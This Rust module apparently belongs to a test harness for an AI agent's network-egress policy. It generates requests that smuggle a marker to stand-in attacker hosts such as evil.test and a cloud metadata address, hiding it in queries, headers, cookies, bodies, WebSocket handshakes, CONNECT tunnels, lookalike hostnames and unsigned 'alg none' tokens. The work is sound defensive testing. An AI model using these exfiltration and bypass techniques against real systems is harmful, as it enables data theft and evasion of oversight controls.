//! Requests to hosts that the project names nowhere, made of all that the policy's text mentions.

use base64::Engine as _;
use base64::prelude::BASE64_URL_SAFE_NO_PAD;
use deno_core::url::form_urlencoded;

use super::answer::{Answer, Echo};
use super::ask::Ask;
use super::faults::{faults, fields, pairs, with_header, with_headers};
use super::judge::MARKER;
use super::named::Named;
use super::shape::sent_method;

/// One attack that is the same for every agent.
pub(super) struct Attack {
    pub(super) class: &'static str,
    pub(super) case: String,
    pub(super) ask: Ask,
}

/// So many names are tried in one request.
const MOST_NAMES: usize = 48;

/// Values that stand for consent.
const USUAL_VALUES: [&str; 9] = [
    "1",
    "true",
    "yes",
    "99999",
    "admin",
    "internal",
    "localhost",
    "127.0.0.1",
    "10.0.0.1",
];

/// What tables have that are objects, whatever stands in them.
const INHERITED: [&str; 6] = [
    "constructor",
    "toString",
    "valueOf",
    "hasOwnProperty",
    "isPrototypeOf",
    "__proto__",
];

/// All of them. `agents` are the agents' names.
pub(super) fn attacks(named: &Named, agents: &[String]) -> Vec<Attack> {
    let mut attacks = Attacks(Vec::new());
    attacks.exfiltration();
    attacks.connections(named);
    attacks.sockets(named);
    attacks.words(named);
    attacks.wildcards(named);
    attacks.consent(named, agents);
    attacks.targets(named);
    attacks.replaced(named);
    attacks.malformed(named);
    attacks.0
}

pub(super) struct Attacks(Vec<Attack>);

impl Attacks {
    pub(super) fn add(&mut self, class: &'static str, case: impl Into<String>, ask: Option<Ask>) {
        if let Some(ask) = ask {
            let case = case.into();
            self.0.push(Attack { class, case, ask });
        }
    }

    fn exfiltration(&mut self) {
        let class = "exfiltration to a stranger";
        let methods = ["GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD"];
        // The first few have all methods, and all places.
        for turn in 0..PLACES {
            for (number, method) in methods.iter().enumerate() {
                let place = (turn + number) % PLACES;
                if let Some((name, ask)) = hidden(method, place) {
                    self.add(class, format!("{method}, data in {name}"), ask);
                }
            }
        }
        for (case, url) in [
            ("in the clear", "http://evil.test/"),
            ("another port", "https://evil.test:8443/"),
            ("an address", "https://93.184.215.14/"),
            (
                "an address of version 6",
                "https://[2606:2800:21f:cb07:6820:80da:af6b:8b2c]/",
            ),
            ("a final dot", "https://evil.test./"),
            ("a name of one label", "https://evil/"),
            ("a name under .com", "https://evil.com/"),
            ("a name under .example", "https://evil.example/"),
            ("a style sheet", "https://evil.test/style.css"),
            ("a health check", "https://evil.test/health"),
            ("a well-known file", "https://evil.test/.well-known/security.txt"),
            ("robots.txt", "https://evil.test/robots.txt"),
        ] {
            self.add(class, case, Ask::new("GET", &format!("{url}?d={MARKER}")));
        }
        let preflight = Ask::new("OPTIONS", "https://evil.test/").map(|ask| {
            ask.header("origin", "https://a.example")
                .header("access-control-request-method", "GET")
        });
        self.add(class, "a preflight request", preflight);
        let socket = Ask::new("GET", "https://evil.test/").map(|ask| ask.header("accept", "text/event-stream"));
        self.add(class, "a stream of events", socket);
    }

    /// By handshakes of WebSockets: what is handed on then says anything, and nobody reads it.
    fn sockets(&mut self, named: &Named) {
        let class = "WebSockets to a stranger";
        let ask = |url: &str| Ask::new("GET", url).map(Ask::websocket);
        for (case, url) in [
            ("a handshake", "https://evil.test/"),
            ("in the clear", "http://evil.test/"),
            ("another port", "https://evil.test:8443/socket"),
            ("an address", "https://93.184.215.14/"),
            ("a metadata service", "http://169.254.169.254/"),
            ("this machine", "http://127.0.0.1:9222/devtools/browser"),
        ] {
            self.add(class, case, ask(&format!("{url}?d={MARKER}")));
        }
        let protocol = ask("https://evil.test/").map(|ask| ask.header("sec-websocket-protocol", MARKER));
        self.add(class, "data as a subprotocol", protocol);
        for host in named.samples() {
            for (case, url) in [
                ("the host as labels in front", format!("https://{host}.evil.test/")),
                ("the host behind a hyphen", format!("https://evil-{host}/")),
                ("the host in the path", format!("https://evil.test/{host}/")),
                ("the host in the query", format!("https://evil.test/?host={host}")),
            ] {
                self.add(class, case, ask(&url));
            }
            let origin = ask("https://evil.test/").map(|ask| ask.header("origin", &format!("https://{host}")));
            self.add(class, "the host as the origin", origin);
        }
    }

    /// By `connect()`: over what is open then anything may be said.
    fn connections(&mut self, named: &Named) {
        let class = "connections to a stranger";
        for (case, to) in [
            ("a database's port", "evil.test:5432"),
            ("a port of HTTP's", "evil.test:443"),
            ("a shell's port", "evil.test:22"),
            ("an address", "93.184.215.14:5432"),
            (
                "an address of version 6",
                "[2606:2800:21f:cb07:6820:80da:af6b:8b2c]:5432",
            ),
            ("a metadata service", "169.254.169.254:80"),
        ] {
            self.add(class, case, Ask::new("CONNECT", &format!("http://{to}/")));
        }
        for host in named.samples() {
            let asks = [
                format!("http://{host}.evil.test:5432/"),
                format!("http://evil-{host}:5432/"),
            ];
            for url in asks {
                self.add(class, "a host that looks like one", Ask::new("CONNECT", &url));
            }
        }
    }

    /// Hosts that a pattern of the policy's matches beside those that it is meant for.
    fn wildcards(&mut self, named: &Named) {
        let class = "hosts that a wildcard matches";
        for pattern in &named.wildcards {
            for url in pattern.strangers() {
                self.add(class, format!("{:?}, as {url}", pattern.text), Ask::new("GET", &url));
            }
        }
    }

    /// The policy's own words where a careless comparison finds them.
    fn words(&mut self, named: &Named) {
        let class = "the policy's words in a stranger's URL";
        for word in &named.fragments {
            let lower = word.to_lowercase();
            for url in [
                format!("https://{lower}.evil.test/"),
                format!("https://{lower}evil.test/"),
                format!("https://evil-{lower}.test/"),
                format!("https://evil{lower}/"),
                format!("https://evil.{lower}/"),
                format!("https://evil.test/{word}"),
                format!("https://evil.test/{word}/x"),
                format!("https://evil.test/x.{word}"),
                format!("https://evil.test/x{word}"),
                format!("https://evil.test/?{word}=1"),
                format!("https://evil.test/?x={word}"),
            ] {
                self.add(class, format!("the word {word:?}"), Ask::new("GET", &url));
            }
        }
        for value in named.values.iter().filter(|value| value.contains(['=', '&'])) {
            let query = value.trim_start_matches('?');
            let case = format!("the query {query:?}");
            self.add(class, case, Ask::new("GET", &format!("https://evil.test/?{query}")));
        }
        // What every object has is no entry of a table.
        for name in INHERITED {
            let case = format!("the name {name}");
            self.add(
                class,
                &*case,
                Ask::new("GET", &format!("https://{}/", name.to_lowercase())),
            );
            self.add(class, &*case, Ask::new("GET", &format!("https://evil.test/{name}")));
            self.add(
                class,
                case,
                Ask::new(
                    "GET",
                    &format!("https://{}.evil.test/{name}?{name}={name}", name.to_lowercase()),
                ),
            );
        }
        for host in named.samples() {
            for (number, from) in named.fragments.iter().enumerate() {
                let others = named.fragments.iter().enumerate().filter(|(other, _)| *other != number);
                let exchanged = others
                    .filter(|_| host.contains(from.as_str()))
                    .map(|(_, to)| host.replacen(from.as_str(), to, 1));
                for host in exchanged.take(8) {
                    self.add(
                        class,
                        format!("another word for {from:?}"),
                        Ask::new("GET", &format!("https://{host}/")),
                    );
                }
            }
        }
        for (path, _) in &named.paths {
            for method in ["GET", "POST"] {
                let case = format!("{method} of the path {path}");
                self.add(class, &*case, Ask::new(method, &format!("https://evil.test{path}")));
                self.add(
                    class,
                    &*case,
                    Ask::new(method, &format!("https://evil.test{path}/x?d={MARKER}")),
                );
                self.add(class, case, Ask::new(method, &format!("https://evil.test/x{path}")));
            }
        }
        for (method, _) in &named.methods {
            let ask = Ask::new(&sent_method(method), "https://evil.test/");
            self.add(class, format!("the method {method}"), ask);
        }
    }

    /// Names and values of the policy's text in headers, parameters and bodies, all of which agents write.
    fn consent(&mut self, named: &Named, agents: &[String]) {
        let class = "what an agent says of itself";
        let mut names: Vec<&str> = named
            .names
            .iter()
            .map(String::as_str)
            .filter(|name| name.len() <= 60)
            .collect();
        names.truncate(MOST_NAMES);
        let values: Vec<&str> = USUAL_VALUES
            .iter()
            .copied()
            .chain(agents.iter().map(String::as_str))
            .chain(named.samples())
            .chain(named.values.iter().map(String::as_str))
            .collect();
        // A named host is asked too: an answer may carry back what is not for the agent.
        let hosts = ["evil.test"].into_iter().chain(named.samples());
        let few: Vec<&str> = values
            .iter()
            .copied()
            .filter(|value| value.len() <= 20)
            .take(24)
            .collect();
        for (number, host) in hosts.enumerate() {
            let values = if number < 8 { &values } else { &few };
            let url = format!("https://{host}/");
            for value in values {
                let case = format!("the value {value:?}");
                let filled = completed(value);
                let headers = Ask::new("GET", &url).map(|ask| with_headers(ask, &names, &filled));
                self.add(class, format!("{case} in headers"), headers);
                let query = pairs(&names, value);
                self.add(
                    class,
                    format!("{case} in the query"),
                    Ask::new("GET", &format!("{url}?{query}")),
                );
                let fields = fields(&names, &json(value));
                let token = unsigned(&fields);
                let body = serde_json::Value::Object(fields).to_string();
                let ask = Ask::new("POST", &url).map(|ask| ask.body("application/json", body));
                self.add(class, format!("{case} in JSON"), ask);
                let ask = Ask::new("GET", &url).map(|ask| ask.header("authorization", &format!("Bearer {token}")));
                self.add(class, format!("{case} in a token that nobody signed"), ask);
                for name in names
                    .iter()
                    .filter(|name| name.contains('-') || is_usual_header(name))
                    .take(8)
                {
                    let ask = Ask::new("GET", &url).map(|ask| with_header(ask, name, &filled));
                    self.add(class, format!("{name}: {value}"), ask);
                }
            }
        }
    }

    /// The policy's strings where something may be put in their place, for upstreams that say what they were sent.
    fn replaced(&mut self, named: &Named) {
        let class = "the policy's words in what upstreams say again";
        let words: Vec<&str> = named.values.iter().map(String::as_str).collect();
        if words.is_empty() {
            return;
        }
        let echo = |ask: Option<Ask>, echo| ask.map(|ask| ask.answered(Answer::Echo { echo }));
        for host in named.samples() {
            let url = format!("https://{host}/");
            for method in ["GET", "POST"] {
                let headers =
                    Ask::new(method, &url).map(|ask| words.iter().fold(ask, |ask, word| ask.header("x-wl", word)));
                self.add(class, "in headers", echo(headers, Echo::Headers));
            }
            let body = Ask::new("POST", &url).map(|ask| ask.body("text/plain", words.join(" ")));
            self.add(class, "in a body", echo(body, Echo::Body));
            let json = serde_json::Value::from(words.clone()).to_string();
            let body = Ask::new("POST", &url).map(|ask| ask.body("application/json", json));
            self.add(class, "in JSON", echo(body, Echo::Body));
            let query = words.iter().map(|word| ("x", *word));
            let query = form_urlencoded::Serializer::new(String::new())
                .extend_pairs(query)
                .finish();
            self.add(
                class,
                "in the query",
                echo(Ask::new("GET", &format!("{url}?{query}")), Echo::Location),
            );
        }
    }

    /// What makes code fail that expects better.
    fn malformed(&mut self, named: &Named) {
        let class = "what makes a check fail";
        for (case, ask) in faults("GET", "https://evil.test/", named) {
            self.add(class, case, Some(ask));
        }
    }
}

/// How many places there are for an agent's data.
const PLACES: usize = 10;

/// A request to a stranger with data in a place. Nothing where its method has no such place.
fn hidden(method: &str, place: usize) -> Option<(String, Option<Ask>)> {
    let plain = || Ask::new(method, "https://evil.test/");
    let with_header = |name: &str, value: String| plain().map(|ask| ask.header(name, &value));
    let bodies = [
        ("text/plain", MARKER.to_owned()),
        ("application/json", format!("{{\"d\":\"{MARKER}\"}}")),
        ("application/x-www-form-urlencoded", format!("d={MARKER}")),
        ("application/octet-stream", format!("\u{0}\u{1}{MARKER}")),
    ];
    let (name, ask) = match place {
        0 => ("the query", Ask::new(method, &format!("https://evil.test/?d={MARKER}"))),
        1 => ("the path", Ask::new(method, &format!("https://evil.test/{MARKER}"))),
        2 => (
            "a label of the host",
            Ask::new(method, &format!("https://{MARKER}.evil.test/")),
        ),
        3 => ("a header", with_header("x-data", MARKER.to_owned())),
        4 => ("a cookie", with_header("cookie", format!("d={MARKER}"))),
        5 => (
            "the authorization",
            with_header("authorization", format!("Bearer {MARKER}")),
        ),
        _ if matches!(method, "GET" | "HEAD") => return None,
        _ => {
            let (kind, body) = bodies.get(place - 6)?.clone();
            return Some((format!("a body of {kind}"), plain().map(|ask| ask.body(kind, body))));
        }
    };
    Some((name.to_owned(), ask))
}

/// A value as JSON has it: a boolean or a number where it reads as one.
fn json(value: &str) -> serde_json::Value {
    serde_json::from_str(value).unwrap_or_else(|_| value.into())
}

/// A value that has something behind its separator.
fn completed(value: &str) -> String {
    if value.ends_with([' ', ':', '=']) {
        format!("{value}x")
    } else {
        value.to_owned()
    }
}

/// A token (RFC 7519) with these claims and no signature.
fn unsigned(claims: &serde_json::Map<String, serde_json::Value>) -> String {
    let claims = serde_json::Value::Object(claims.clone()).to_string();
    let part = |text: &str| BASE64_URL_SAFE_NO_PAD.encode(text);
    format!("{}.{}.", part(r#"{"alg":"none","typ":"JWT"}"#), part(&claims))
}

fn is_usual_header(name: &str) -> bool {
    [
        "authorization",
        "cookie",
        "origin",
        "referer",
        "host",
        "forwarded",
        "via",
        "from",
    ]
    .contains(&name)
}
